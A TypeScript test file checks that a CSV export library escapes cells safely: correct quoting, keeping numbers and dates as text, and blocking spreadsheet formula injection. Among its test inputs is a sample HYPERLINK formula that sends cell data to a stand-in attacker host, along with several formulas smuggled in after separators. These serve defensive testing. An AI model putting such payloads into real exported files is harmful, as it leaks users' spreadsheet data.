import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvText, spreadsheetText } from './csv-cell.ts'

/** The first cell of a line of CSV, read as RFC 4180 says. */
function readCell(csv: string): string {
  if (!csv.startsWith('"')) return /^[^,\r\n]*/.exec(csv)?.[0] ?? ''
  let text = ''
  for (let at = 1; at < csv.length; at++) {
    if (csv[at] !== '"') text += csv[at]
    else if (csv[at + 1] === '"') text += csv[at++]
    else return text
  }
  throw new Error('the quotes are not closed')
}

const FORMULA = /^[=+\-@\t\r\n\0＝＋－＠]/

const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.stringMatching(/^[=+@,;"'\r\n\t-]{0,6}[a-z]?$/),
  fc.stringMatching(/^[a-z1 ]{0,3}[,;\t\r\n]["']{0,2}[=+@-]?[a-z]?$/),
  fc.constantFrom('=HYPERLINK("http://evil.example?"&A1,"x")', '@SUM(1)', '-2+3', '\0=1', '＝1+1'),
  fc.constantFrom('Ada;=1+1', 'Ada,+1', 'Ada\t@SUM(1)', 'Ada;"=1+1', 'Ada\n-1'),
)

describe.each([
  ['a cell', csvText],
  ['a cell for spreadsheets', spreadsheetText],
])('%s', (_, write) => {
  it('is read as the text it was, but for apostrophes before formulas', () => {
    fc.assert(
      fc.property(text, (value) => {
        const read = readCell(`${write(value)},next`)
        const plain = /^="(.*)"$/s.exec(read)?.[1]?.replaceAll('""', '"') ?? read
        const isPlain = !FORMULA.test(value.replace(/^"+/, '')) && !/[,;\t\r\n]/.test(value)
        expect(isPlain ? plain : value).toBe(value)
        expect(plain.replaceAll("'", '')).toBe(value.replaceAll("'", ''))
      }),
    )
  })

  it('S-145: begins no formula of the text, at whichever separator it is split', () => {
    fc.assert(
      fc.property(text, (value) => {
        const cell = write(value)
        const parts = [',', ';', '\t', '\r', '\n'].flatMap((separator) => {
          const [first = '', ...others] = cell.split(separator)
          // The result of our own formula is a text.
          return /^(?:=|"=")"/.test(first) ? others : [first, ...others]
        })
        expect(parts.filter((part) => FORMULA.test(part.replace(/^"+/, '')))).toEqual([])
      }),
    )
  })

  it('is one cell of one line, whichever separator', () => {
    fc.assert(
      fc.property(text, (value) => {
        const cell = write(value)
        expect(/^"(?:[^"]|"")*"$/.test(cell) || !/[",;\r\n]/.test(cell)).toBe(true)
      }),
    )
  })
})

it.each([
  ['Ada;=1+1', `"Ada;'=1+1"`],
  ['Ada\t@SUM(1)', `"Ada\t'@SUM(1)"`],
  ['Ada, -1', '"Ada, -1"'],
])('S-145: %j is written as %j', (value, cell) => {
  expect(csvText(value)).toBe(cell)
})

it.each([
  '000123',
  '0005',
  '01234567890',
  '12345678901234567890',
  '1E5',
  '12e-3',
  '1,5',
  '1.000',
  '3/4',
  '3-4',
  '10:30',
  '10:30 PM',
  '2026-11-27',
  '27 nov. 2026',
  'MARCH1',
  'SEPT2',
  'mar/26',
  'R$ 5,00',
  '5%',
  '(5)',
  '٣',
  'TRUE',
  'falso',
])('F-7: %s stays a text in a spreadsheet', (value) => {
  expect(readCell(spreadsheetText(value))).toBe(`="${value}"`)
})

/** What a spreadsheet takes for something else than a text, in its languages. */
const CONVERTED = {
  'a number, whose zeros before it and digits after the fifteenth go': /^[+]?0{0,4}\d{1,25}$/,
  'a decimal, by either sign': /^\d{1,3}([.,]\d{3}){0,3}[.,]\d{1,4}$/,
  'an exponent': /^\d{1,6}([.,]\d)?[eE][+-]?\d{1,3}$/,
  'a fraction': /^(\d{1,2} )?\d{1,3}\/\d{1,3}$/,
  'a share': /^\d{1,3}([.,]\d)? ?%$/,
  money: /^(R\$|\$|€|£|¥)? ?\d{1,5}([.,]\d\d)? ?(€|kr|zł|EUR)?$/,
  'less than nothing': /^\(\d{1,5}\)$/,
  'a date in figures': /^\d{1,4}[-/.]\d{1,2}([-/.]\d{1,4})?$/,
  'a date with a month': /^(\d{1,2}[ /-])?(jan|MAR|sept|dez|März|août)[.]?[ /-]?\d{1,4}$/,
  'a time': /^\d{1,3}:\d\d(:\d\d([.,]\d{1,3})?)?( ?[AaPp]\.?[Mm]\.?)?$/,
  'a truth value': /^(TRUE|true|FALSE|Falso|VERDADEIRO|verdadero|VRAI|faux|WAHR|Falsch|VERO)$/,
  'digits of another script': /^[٠-٩]{1,6}$/,
}

it.each(Object.entries(CONVERTED))(
  'F-7: a spreadsheet keeps the text that looks like %s',
  (_, rule) => {
    fc.assert(
      fc.property(fc.stringMatching(rule), (value) => {
        const read = readCell(spreadsheetText(value))
        // A formula's character keeps its apostrophe, which makes it a text as well.
        expect([`="${value}"`, `'${value}`]).toContain(read)
      }),
    )
  },
)

it.each(['Ada', 'Rua do Ouvidor, nº 12', 'ada1@example.com.br', '', 'a"b'])(
  '%j is written as it is',
  (value) => {
    expect(readCell(spreadsheetText(value))).toBe(value)
  },
)
